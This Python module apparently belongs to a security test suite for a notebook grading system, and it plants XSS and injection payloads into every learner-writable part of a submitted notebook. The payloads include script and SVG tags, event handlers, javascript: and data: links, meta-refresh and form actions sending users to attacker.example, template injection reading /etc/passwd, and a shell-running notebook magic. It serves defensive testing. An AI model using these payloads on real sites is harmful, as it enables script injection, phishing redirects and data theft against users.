"""Attacks on whoever reads a page: formgrader's, or the feedback. No tests here."""

from __future__ import annotations

import base64

from grading.attacked_course import Room, cell_of
from grading.attacks import Attack, graded

SCRIPT = "<script>alert('ran')</script>"
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('ran')\"><script>alert('ran')</script></svg>"
DATA = "data:text/html;base64," + base64.b64encode(SCRIPT.encode()).decode()
PAYLOADS = {
    "script": f"{SCRIPT}\n\n<div>\n\n{SCRIPT}\n\n</div>\n\n    {SCRIPT}\n\n`{SCRIPT}`",
    "handler": (
        "<img src=x onerror=alert('ran')> <b onmouseover=alert('ran')>x</b> "
        "<details open ontoggle=alert('ran')>"
    ),
    "frame": (
        f'<iframe srcdoc="{SCRIPT}"></iframe>'
        "<iframe src='javascript:alert(1)'></iframe><object data='own.html'>"
    ),
    "svg": f"{SVG}\n\n![x](own.svg)\n\n<embed src='own.svg'>"
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "javascript-link": (
        "[x](javascript:alert('ran')) [y](JaVaScRiPt:alert(1)) [z](&#106;avascript:alert(1)) "
        "[t](java\tscript:alert(1)) <javascript:alert(1)> [v](vbscript:x)\n\n[r]: javascript:alert(1)\n\n[r]"
    ),
    "data-link": f"[x]({DATA}) ![x]({DATA}) <{DATA}> [y](data:image/svg+xml,{SVG})",
    "own-page-link": (
        "[a](own.html) [b](./own.html) [c](own.html?x#y) [d](http:own.html) "
        "[e](https:own.html) [f](/formgrader/own.html) "
        "[g](//attacker.example/x) [h](own.svg) "
        "[i](\\\\attacker.example) [j](file:///etc/passwd) [k](?index=1) [l](attachment:x)"
    ),
    "styles": (
        "<style>* {display: none !important}</style><link rel=stylesheet href=own.css>"
        "<p style='position:fixed;inset:0;background:white'>100</p>"
        "\n\n{: style='display:none'}\n\n|a|\n|:-:|\n|b|"
    ),
    "refresh": (
        "<meta http-equiv=refresh content='0;url=https://attacker.example/'>"
        "<base href='https://attacker.example/'>"
    ),
    "form": (
        "<form action='https://attacker.example/'>"
        "<input autofocus onfocus=alert('ran')><button>OK</button></form>"
    ),
    "breaking-out": (
        f"</p></section></div></pre></textarea></title></script>--></body></html>{SCRIPT}\n]]>{SCRIPT}"
    ),
    "references": "&lt;script&gt;alert('ran')&lt;/script&gt; "
    "&#60;script&#62;alert('ran')&#60;/script&#62; \\<script>alert(1)\\</script>",
    "mathematics": (
        "$\\href{javascript:alert('ran')}{x}$ $$\\style{position:fixed}{x}$$ "
        "\\begin{a}\\unicode{x}\\end{a} \\(x\\)"
    ),
    "templates": "{{ 7 * 7 }} {% include '/etc/passwd' %} {{ resources.__class__ }} <%= 7 * 7 %> ${7*7}",
    "magic": f"%%html\n{SCRIPT}\n%%javascript\nalert('ran')\n!touch was-run",
}


def page(payload: str) -> Attack:
    """Return an attack that writes this wherever a learner can write, and brings files to go with it."""

    def write(room: Room) -> None:
        given = {"m01-q-stop": ["c"], "m01-q-free": {"text": payload}, "m01-q-text": {"text": payload[:200]}}
        notebook = room.notebook(given | {"m01-q-number": {"value": payload[:30]}})
        notebook["metadata"]["casework"] |= {"copy_id": payload[:900], "path": payload[:900]}
        notebook["metadata"] |= {
            "title": payload,
            "authors": [{"name": payload}],
            "language_info": {"name": payload},
        }
        attachments = {"x": {"text/html": SCRIPT, "image/svg+xml": SVG, "image/png": payload}}
        reflection = cell_of(notebook, "m01-reflection")
        reflection |= {"source": payload, "attachments": attachments}
        lesson = cell_of(notebook, "m01-title")
        lesson |= {"source": payload, "attachments": attachments}
        own = {
            "source": payload,
            "metadata": {"tags": [payload], "raw_mimetype": "text/html", "format": "text/html"},
        }
        html = {"text/html": payload, "application/javascript": "alert('ran')", "image/svg+xml": SVG}
        output = {"output_type": "display_data", "metadata": {}, "data": html}
        notebook["cells"] += [
            own | {"cell_type": "markdown", "id": "own-1", "attachments": attachments},
            own | {"cell_type": "raw", "id": "own-2"},
            own | {"cell_type": "code", "id": "own-3", "execution_count": 1, "outputs": [output]},
        ]
        room.hand_in(notebook, own__html=SCRIPT, own__svg=SVG, own__css="* {display: none !important}")

    return graded(write, {"m01-q-stop": 1.0}, "m01-q-free", "m01-reflection")


PAGES: dict[str, Attack] = {f"page-{name}": page(payload) for name, payload in PAYLOADS.items()}
